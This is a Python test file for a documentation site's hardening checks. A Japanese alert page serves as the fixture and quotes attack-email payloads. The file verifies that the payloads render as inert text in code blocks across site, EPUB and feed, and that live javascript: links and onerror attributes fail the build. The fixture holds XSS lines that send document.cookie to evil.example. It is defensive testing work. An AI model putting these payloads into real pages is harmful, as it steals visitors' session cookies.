"""A page about attacks builds --strict: its examples are content on the portal, in the EPUB and in the feeds."""

from __future__ import annotations

import html as html_lib
import json
import re
import zipfile

from tests.hardening.matrixsupport import OUTPUT_PLUGINS

PAGE = """\
---
title: 受け取ったメールに仕込まれていたもの
date: 2026-10-20T10:00:00+09:00
slug: payloads-we-saw
categories: [alert]
summary: 相談で届いた攻撃メールの中身を、そのまま例として紹介します。
---
## 実際の例

HTML メールに `<script>document.location='https://evil.example/?c='+document.cookie</script>` が入っていました。
リンクは `<a href="javascript:fetch('//evil.example')">請求書</a>` という形です。

```html
<img src="x" onerror="new Image().src='//evil.example/?'+document.cookie">
<a href="JaVaScRiPt:alert(1)">確認</a>
<iframe src="https://evil.example/login"></iframe>
```

ログには見えない制御文字 `\x1b[0m` や、

    GET /search?q=%3Cscript%3E\x0bHTTP/1.1

のような行も残っていました。
"""

MANIFEST = "title: 事例集\nvolume: 1\nchapters:\n  - topics/2026/payloads.md\n"


def visible_text(markup: str) -> str:
    return html_lib.unescape(re.sub(r"<[^>]+>", "", markup))


def test_attack_examples_in_code_build_strict_and_are_shown_everywhere(fixture_project):
    project = fixture_project
    project.write("mkdocs.yml", project.root.joinpath("mkdocs.yml").read_text(encoding="utf-8") + OUTPUT_PLUGINS)
    project.write("docs/topics/2026/payloads.md", PAGE)
    project.write("guidebook/cases.yml", MANIFEST)
    project.write("feeds/alerts.yml", "title: 注意喚起\ncategories: [alert]\n")
    built = project.build()
    assert built.returncode == 0 and "WARNING" not in built.output, built.output
    checked = project.check()
    assert checked.returncode == 0 and checked.stdout == "", checked.output

    page = visible_text((project.site / "topics/2026/payloads-we-saw/index.html").read_text(encoding="utf-8"))
    assert "<script>document.location='https://evil.example/?c='+document.cookie</script>" in page
    assert """<img src="x" onerror="new Image().src='//evil.example/?'+document.cookie">""" in page
    # Control characters in code are shown as their symbols, in every output.
    assert "\u241b[0m" in page and "%3E\u240bHTTP/1.1" in page

    with zipfile.ZipFile(project.site / "guidebook/cases.epub") as book:
        chapters = [book.read(name).decode("utf-8") for name in book.namelist() if name.startswith("EPUB/text/")]
    assert len(chapters) == 1
    chapter = visible_text(chapters[0])
    assert '<a href="JaVaScRiPt:alert(1)">確認</a>' in chapter and "\u240b" in chapter

    feed = json.loads((project.site / "feeds/alerts.json").read_text(encoding="utf-8"))
    assert len(feed["items"]) == 1
    content = visible_text(feed["items"][0]["content_html"])
    assert '<iframe src="https://evil.example/login"></iframe>' in content and "\u241b[0m" in content


def test_the_same_markup_outside_code_still_fails_at_each_line(fixture_project):
    project = fixture_project
    live = PAGE + '\n<a href="javascript:alert(1)">請求書を見る</a>\n\n<img src="https://kb.example.jp/x.png" alt="図" onerror="steal()">\n'
    project.write("docs/topics/2026/payloads.md", live)
    where = "docs/topics/2026/payloads.md"
    lines = PAGE.count("\n")
    built, checked = project.build(), project.check()
    assert built.returncode == 1 and checked.returncode == 1, built.output + checked.output
    for expected in (f"{where}:{lines + 2}: javascript: URL は使えません", f"{where}:{lines + 4}: on* 属性 は使えません (onerror)"):
        assert expected in built.output, built.output
    assert checked.stdout.count(where) == 2 and f"{where}:{lines + 2}: 警告: javascript: URL" in checked.stdout
